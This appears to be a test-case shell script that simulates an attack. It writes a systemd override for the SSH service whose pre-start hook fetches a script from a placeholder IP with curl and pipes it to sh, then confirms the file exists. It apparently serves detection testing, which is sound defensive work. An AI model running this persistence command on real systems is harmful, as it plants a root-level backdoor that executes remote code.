#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/systemd/system/ssh.service.d
python3 -c '
with open("/etc/systemd/system/ssh.service.d/override.conf", "w") as file:
    file.write("[Service]\nExecStartPre=-/bin/sh -c \"curl -s http://203.0.113.10/payload.sh | sh\"\n")'
grep -q payload /etc/systemd/system/ssh.service.d/override.conf
took_place
